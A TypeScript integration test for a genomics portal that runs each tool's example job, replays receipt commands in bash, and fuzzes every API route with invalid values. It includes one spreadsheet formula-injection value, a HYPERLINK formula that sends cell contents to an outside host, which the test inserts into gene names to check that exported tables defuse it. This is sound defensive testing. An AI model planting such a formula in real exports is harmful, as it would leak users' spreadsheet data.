import { execFile } from 'node:child_process'
import { existsSync, readFileSync } from 'node:fs'
import { cp, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { Writable } from 'node:stream'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { makeSimulated } from '../../demo/simulated.ts'
import type { AssemblySummary } from '../contracts/species.ts'
import { type Job, listTools } from '../contracts/tools/jobs.ts'
import { commandLine, type Receipt } from '../contracts/tools/receipt.ts'
import type { ToolStatus } from '../contracts/tools/tool.ts'
import type { FoundProgram } from '../jobs/programs.ts'
import { runWorker } from '../jobs/worker.ts'
import { runTool } from '../kit/run-tool.ts'
import { openTestApp, type TestApp } from '../testing/app.ts'
import { loadTestSpecies } from '../testing/species.ts'
import { checkExport } from '../testing/strict-reader.ts'
import { answerBounds } from './answers/tool-tasks.ts'

// What the server promises of every tool, tried on a portal that has data for nearly all of them, over HTTP as a program asks: which
// tools and routes there are is read from the portal itself.

/** A name that a spreadsheet would compute. */
const hostile = '=HYPERLINK("http://example.org/?"&A1,"x")'

let bed: TestApp
let base = ''
let log = ''
let tools: ToolStatus[] = []
let assemblies: AssemblySummary[] = []
const stopped = new AbortController()
let working: Promise<void> = Promise.resolve()
const failedExamples: string[] = []
/** A job of each tool that can be used, made from the example that the portal gives. */
const jobs = new Map<string, { id: string; example: Record<string, unknown>; result: unknown; receipt: Receipt }>()

const send = async (method: string, path: string, body?: unknown, headers: Record<string, string> = {}) =>
  fetch(`${base}${path}`, {
    method,
    headers: {
      'accept-encoding': 'gzip, br',
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      ...headers,
    },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  })

const dataOf = async <Data>(answer: Response): Promise<Data> => {
  const body = (await answer.json()) as { success: boolean; data: Data }
  expect(body).toMatchObject({ success: true })
  return body.data
}

/** The species with hostile names where a loader takes any text. */
const makeFolder = async (folder: string): Promise<void> => {
  await makeSimulated(folder)
  const genes = join(folder, 'genes.gff3')
  const name = encodeURIComponent(hostile)
  await writeFile(genes, (await readFile(genes, 'utf8')).replace(/(\tgene\t[^\n]*?;Name=)[^;\n]+/g, `$1${name}`))
}

beforeAll(async () => {
  const logStream = new Writable({
    write: (text, _, done) => {
      log += text
      done()
    },
  })
  bed = await openTestApp({ logStream })
  const { portal, dataDir } = bed
  const folder = join(bed.root, 'simulated')
  await makeFolder(folder)
  const report = await loadTestSpecies(portal.database, dataDir, folder, { engines: true })
  expect(report.ok, JSON.stringify(report)).toBe(true)
  const watched = await watchPrograms(portal.programs)
  working = runWorker({
    database: { sql: portal.database.sql },
    files: portal.files,
    concurrency: 2,
    signal: stopped.signal,
    log: { info() {}, warn() {}, error() {} },
    pollMs: 500,
    runTool: (run) =>
      runTool(portal.tools.find((tool) => tool.id === run.tool)!.engine, {
        input: run.input,
        data: portal.data,
        directory: run.directory,
        dataDir,
        searchPath: bed.config.searchPath,
        programs: watched,
        portalVersion: portal.version,
        signal: run.signal,
        bounds: answerBounds(bed.config),
        onProgress: run.progress,
      }),
  })
  base = await bed.app.listen({ port: 0, host: '127.0.0.1' })
  assemblies = await portal.data.listAssemblies()
  tools = listTools.output.parse(await dataOf(await send('GET', '/api/tools/'))).tools
  for (const { id, example } of tools) {
    if (example === null) continue
    const accepted = await send('POST', `/api/tools/${id}/`, example, { prefer: 'respond-async' })
    expect([id, accepted.status]).toEqual([id, 202])
    const { job } = await dataOf<{ job: Job }>(accepted)
    // The events end with the job.
    await (await send('GET', `/api/jobs/${job.id}/events`)).text()
    const ended = await send('GET', `/api/jobs/${job.id}/result/`)
    if (ended.status !== 200) {
      failedExamples.push(`${id} ${ended.status} ${await ended.text()}`)
      continue
    }
    const { result, receipt } = await dataOf<{ result: unknown; receipt: Receipt }>(ended)
    jobs.set(id, { id: job.id, example: example as Record<string, unknown>, result, receipt })
  }
}, 600_000)
afterAll(async () => {
  stopped.abort()
  await working
  await bed.close()
})

describe('the example of a tool', () => {
  test('is there for all but those that need what this portal has not, and is answered as it stands', async () => {
    expect(failedExamples).toEqual([])
    const without = tools.filter(({ available, example }) => available && example === null)
    // Of one assembly nothing can be compared.
    expect(without.map(({ id }) => id).sort()).toEqual([
      'diagnosticprimers',
      'genepresence',
      'pangenome',
      'pangenomebrowser',
      'strainreport',
    ])
    expect(jobs.size).toBeGreaterThan(tools.length / 2)
    for (const { id, example, mode } of tools) {
      if (example === null) continue
      const answer = await send('POST', `/api/tools/${id}/`, example)
      // The same question as the job's, so what the job computed is given at once.
      expect([id, answer.status]).toEqual([id, 200])
      const { receipt } = await dataOf<{ receipt: Receipt }>(answer)
      expect([id, mode, receipt.tool]).toEqual([id, mode, id])
    }
  })
})

describe('a receipt', () => {
  test('names programs with their own versions, and computations of a tool with that of the tool', () => {
    for (const [id, { receipt }] of jobs) {
      const { tool } = bed.portal.tools.find((one) => one.id === id)!
      for (const { program, version, command } of receipt.steps) {
        const own = bed.portal.programs.find((one) => one.program === program)?.version
        const expected = command !== undefined ? own : program.startsWith('NovoDB') ? String(tool.version) : version
        expect([id, program, version]).toEqual([id, program, expected])
        expect([id, program, version]).not.toEqual([id, program, ''])
      }
    }
  })

  test('is run again by bash in an empty folder with the same result, of every tool that runs programs', async () => {
    const again: string[] = []
    const differing: string[] = []
    for (const [id, job] of jobs) {
      if (!job.receipt.steps.some(({ command }) => command !== undefined)) continue
      differing.push(...(await runReceiptAgain(job)).map((problem) => `${id}: ${problem}`))
      again.push(id)
    }
    expect(differing).toEqual([])
    const withPrograms = bed.portal.tools.filter(({ id, engine }) => jobs.has(id) && engine.programs.length > 0)
    // A tool may answer its example without its programs, as one that reads what was computed at loading.
    expect(withPrograms.map(({ id }) => id)).toEqual(expect.arrayContaining(again))
    expect(again).toEqual(expect.arrayContaining(['blast', 'gwas', 'primerdesign', 'tree']))
  })
})

const run = promisify(execFile)

const listFiles = async (directory: string): Promise<string[]> =>
  (await readdir(directory, { recursive: true, withFileTypes: true }))
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name).slice(directory.length + 1))

/** A result without what differs from one run of the same command to the next: comments with its date, and its own logs. */
const comparable = (text: string): string =>
  text
    .split('\n')
    .filter((line) => !/^[#%]|^\s*(Date|Time|Seed|Host|CPU|Command)\b|\b\d+(\.\d+)? ?(s|sec|seconds)\b/i.test(line))
    .join('\n')

/** Where it is kept what a run's folder held before and after each of its programs, in the order in which they ended. */
const snapshotsOf = (directory: string): string => join(bed.root, 'snapshots', directory.replaceAll('/', '_'))

/** The programs, each of which keeps its folder before and after it ran: what engines clear away is needed to run them again. */
const watchPrograms = async (programs: readonly FoundProgram[]): Promise<FoundProgram[]> => {
  const folder = join(bed.root, 'watched')
  await mkdir(folder)
  return Promise.all(
    programs.map(async (found): Promise<FoundProgram> => {
      if (found.path === null) return found
      const path = join(folder, found.program)
      const script = `#!/bin/bash
shots="${join(bed.root, 'snapshots')}/\${PWD////_}"
mkdir -p "$shots"
shot=$(mktemp -d "$shots/XXXXXX")
cp -a . "$shot/before"
"${found.path}" "$@"
status=$?
cp -a . "$shot/after"
mv "$shot" "$shots/ended-$(date +%s%N)"
exit $status
`
      await writeFile(path, script, { mode: 0o755 })
      return { ...found, path }
    }),
  )
}

/**
 * Runs the commands of a job's receipt, each in a folder of what there was when the program was started, where the data have the names
 * that the receipt gives them. Gives back which files of the programs differ from the job's own.
 */
const runReceiptAgain = async ({ id, receipt }: { id: string; receipt: Receipt }): Promise<string[]> => {
  const { portal, root, dataDir, config } = bed
  const { directory } = await portal.queue.openJob(id)
  const shots = snapshotsOf(directory)
  const ended = (await readdir(shots)).sort()
  const steps = receipt.steps.filter(({ command }) => command !== undefined)
  expect(ended.length).toBe(steps.length)
  const differing: string[] = []
  for (const [at, step] of steps.entries()) {
    const [before, after] = [join(shots, ended[at]!, 'before'), join(shots, ended[at]!, 'after')]
    const folder = await mkdtemp(join(root, 'again-'))
    await cp(before, folder, { recursive: true, verbatimSymlinks: true })
    await symlink(dataDir, join(folder, 'data'))
    for (const { assembly } of receipt.data)
      await symlink(await portal.data.bundleDirectory(assembly), join(folder, assembly))
    await run('bash', ['--norc', '-c', `exec ${commandLine(step)}`.replace(/^exec (\w+=.*)/, '$1')], {
      cwd: folder,
      env: { PATH: config.searchPath, LC_ALL: 'C', HOME: folder, TMPDIR: folder },
      maxBuffer: 1 << 26,
    })
    const read = (from: string, file: string): string | null =>
      existsSync(join(from, file)) ? comparable(readFileSync(join(from, file), 'latin1')) : null
    let written = 0
    for (const file of await listFiles(after)) {
      if (/^command\.json|^stderr$|\.(log|gz|iqtree)$/.test(file) || read(before, file) === read(after, file)) continue
      written += 1
      if (read(folder, file) !== read(after, file)) differing.push(`${step.program}: ${file}`)
    }
    // Standard output may be empty, or all that is wanted of a program, as how large a database is.
    const silent = step.output !== undefined || reported.test(step.command!.join(' '))
    if (written === 0 && !silent) differing.push(`${step.program} wrote nothing`)
    await rm(folder, { recursive: true, force: true })
  }
  return differing
}

/** Commands of which nothing but their standard output is wanted. */
const reported = /^diamond dbinfo\b/

interface Schema {
  type?: string | string[]
  enum?: unknown[]
  const?: unknown
  default?: unknown
  pattern?: string
  anyOf?: Schema[]
  oneOf?: Schema[]
  allOf?: Schema[]
  properties?: Record<string, Schema>
  required?: string[]
  items?: Schema
  minimum?: number
  maximum?: number
  minItems?: number
}

interface Route {
  tool: string | undefined
  method: string
  path: string
  fields: Record<string, { place: 'path' | 'query' | 'body'; schema: Schema; required: boolean }>
}

/** Every route that the portal documents, save those that need signing in. */
const listRoutes = async (): Promise<Route[]> => {
  type Operation = {
    security?: unknown
    parameters?: { name: string; in: string; required: boolean; schema: Schema }[]
    requestBody?: { content: { 'application/json': { schema: Schema } } }
  }
  const { paths } = (await (await send('GET', '/api/openapi.json')).json()) as {
    paths: Record<string, Record<string, Operation>>
  }
  return Object.entries(paths).flatMap(([path, methods]) =>
    Object.entries(methods).flatMap(([method, operation]): Route[] => {
      const tool = /^\/api\/tools\/([a-z]+)\//.exec(path)?.[1]
      // What is posted elsewhere than to a tool changes something.
      if (operation.security !== undefined || (method !== 'get' && tool === undefined)) return []
      const body = operation.requestBody?.content['application/json'].schema
      const fields: Route['fields'] = {}
      for (const { name, in: place, required, schema } of operation.parameters ?? [])
        if (place === 'path' || place === 'query') fields[name] = { place, schema, required }
      for (const [name, schema] of Object.entries(body?.properties ?? {}))
        fields[name] ??= { place: 'body', schema, required: body?.required?.includes(name) ?? false }
      return [{ tool, method: method.toUpperCase(), path, fields }]
    }),
  )
}

/** A value that a field may have: what the tool's example says, what there is on this portal, or the plainest that its schema takes. */
const plainValue = (route: Route, name: string, schema: Schema): unknown => {
  const assembly = assemblies[0]!
  const gene = assembly.exampleGenes[0]!
  const job = route.tool === undefined ? undefined : jobs.get(route.tool)
  const known: Record<string, unknown> = {
    ...job?.example,
    job: job?.id ?? '0'.repeat(32),
    id: gene.id,
    gene: gene.id,
    genes: [gene.id],
    assembly: assembly.id,
    species: assembly.species,
    assemblies: [assembly.id],
    first: assembly.id,
    second: assembly.id,
    sequence: gene.sequence,
    start: gene.start,
    end: gene.end,
  }
  const list = (value: unknown): unknown => (schema.type === 'string' && Array.isArray(value) ? value.join(',') : value)
  if (known[name] !== undefined) return list(known[name])
  if (schema.default !== undefined) return schema.default
  if (schema.const !== undefined) return schema.const
  if (schema.enum !== undefined) return schema.enum[0]
  const one = schema.anyOf?.[0] ?? schema.oneOf?.[0] ?? schema.allOf?.[0]
  if (one !== undefined) return plainValue(route, name, one)
  switch ([schema.type].flat()[0]) {
    case 'integer':
    case 'number':
      return Math.max(1, schema.minimum ?? 1)
    case 'boolean':
      return false
    case 'array':
      return Array.from({ length: schema.minItems ?? 0 }, () => plainValue(route, '', schema.items ?? {}))
    case 'object':
      return Object.fromEntries(
        Object.entries(schema.properties ?? {})
          .filter(([field]) => schema.required?.includes(field) || known[field] !== undefined)
          .map(([field, inner]) => [field, plainValue(route, field, inner)]),
      )
    default:
      return 'a'
  }
}

/** Values that are wrong for a field, each in another way. */
const wrongValues = (name: string, schema: Schema): unknown[] => {
  const types = new Set([schema, ...(schema.anyOf ?? []), ...(schema.oneOf ?? [])].flatMap(({ type }) => type ?? []))
  if (name === 'job') return ['f'.repeat(32), 'no-job']
  return [
    ...(types.has('integer') || types.has('number') ? [schema.maximum ?? 987_654_321, 'x'] : []),
    ...(types.has('array') ? [['no-such-thing']] : []),
    ...(types.has('object') ? ['no-such-thing'] : []),
    ...(types.has('string') || types.size === 0 ? ['no-such-thing', hostile] : []),
  ]
}

const addressOf = (route: Route, values: Record<string, unknown>): { path: string; body?: unknown } => {
  const text = (value: unknown): string => (typeof value === 'object' ? JSON.stringify(value) : String(value))
  let path = route.path
  const query = new URLSearchParams()
  const body: Record<string, unknown> = {}
  for (const [name, value] of Object.entries(values)) {
    const place = route.fields[name]?.place
    if (place === 'path') path = path.replace(`{${name}}`, encodeURIComponent(text(value)) || '%20')
    else if (place === 'query') query.set(name, text(value))
    else body[name] = value
  }
  const address = query.size === 0 ? path : `${path}?${query}`
  return route.method === 'GET' ? { path: address } : { path: address, body }
}

describe('every route of the portal', () => {
  test('answers wrong parameters with a failure that a client can read, and nothing of it is a failure of the server', async () => {
    const routes = await listRoutes()
    const problems: string[] = []
    const files: string[] = []
    const refused: string[] = []
    const withHostileName = new Set<string>()
    log = ''
    const ask = async (route: Route, values: Record<string, unknown>): Promise<void> => {
      const { path, body } = addressOf(route, values)
      const about = `${route.method} ${path} ${body === undefined ? '' : JSON.stringify(body).slice(0, 200)}`
      try {
        const answer = await send(route.method, path, body)
        const bytes = new Uint8Array(await answer.arrayBuffer())
        const name = /filename="([^"]+)"/.exec(answer.headers.get('content-disposition') ?? '')?.[1]
        if (answer.status >= 500) problems.push(`${about}: ${answer.status}`)
        if (answer.status < 400) {
          // One form of addresses: data ends in a slash, a file does not.
          const isData = (answer.headers.get('content-type') ?? '').startsWith('application/json') && name === undefined
          if (isData !== route.path.endsWith('/')) problems.push(`${route.path}: ${isData ? 'data' : 'a file'}`)
          if (name === undefined) return
          files.push(`${route.method} ${route.path}`)
          // Written by whoever may write: nothing in it is computed, and each reads strictly.
          // Numbers of cells for a drawing have no form to be read by.
          if (name.endsWith('.bin')) return
          const found = checkExport(name, bytes, { receipt: false })
          problems.push(...found.map((problem) => `${about} ${name}: ${problem}`))
          if (new TextDecoder().decode(bytes).includes('HYPERLINK')) withHostileName.add(route.path)
          return
        }
        refused.push(`${route.method} ${route.path} ${answer.status}`)
        const failure = JSON.parse(new TextDecoder().decode(bytes)) as { success: boolean; errorCode: string }
        if (failure.success !== false || failure.errorCode === 'INTERNAL')
          problems.push(`${about}: ${failure.errorCode}`)
        for (const header of ['content-disposition', 'etag'])
          if (answer.headers.has(header)) problems.push(`${about}: ${header} with a failure`)
        if (!/no-store/.test(answer.headers.get('cache-control') ?? ''))
          problems.push(`${about}: a failure may be kept`)
      } catch (error) {
        problems.push(`${about}: ${String((error as { cause?: unknown }).cause ?? error)}`)
      }
    }
    for (const route of routes) {
      const values: Record<string, unknown> = {}
      for (const [name, { schema, required }] of Object.entries(route.fields))
        if (required || schema.default !== undefined || /^(assembly|sequence|start|end)$/.test(name))
          values[name] = plainValue(route, name, schema)
      await ask(route, values)
      for (const [name, { schema }] of Object.entries(route.fields)) {
        for (const wrong of wrongValues(name, schema)) await ask(route, { ...values, [name]: wrong })
        const inner = schema.properties
        if (inner === undefined) continue
        const object = (values[name] ?? plainValue(route, name, schema)) as Record<string, unknown>
        for (const [field, fieldSchema] of Object.entries(inner))
          for (const wrong of wrongValues(field, fieldSchema))
            await ask(route, { ...values, [name]: { ...object, [field]: wrong } })
      }
    }
    expect(problems).toEqual([])
    // The reader's mistakes are no errors of the server: levels of pino, 50 and above.
    expect(log.split('\n').filter((line) => /"level":[56]0/.test(line))).toEqual([])
    // What was asked was right enough to be answered by files, and wrong enough to be refused.
    for (const path of ['hits.tsv', 'hits.gff3', 'sequences']) {
      expect(files).toContain(`GET /api/tools/blast/jobs/{job}/${path}`)
      expect(refused).toContain(`GET /api/tools/blast/jobs/{job}/${path} 404`)
    }
    expect(new Set(files).size).toBeGreaterThan(15)
    expect([...withHostileName]).toEqual(
      expect.arrayContaining(['/api/tools/genesearch/table', '/api/tools/sequenceextraction/table']),
    )
  }, 600_000)
})
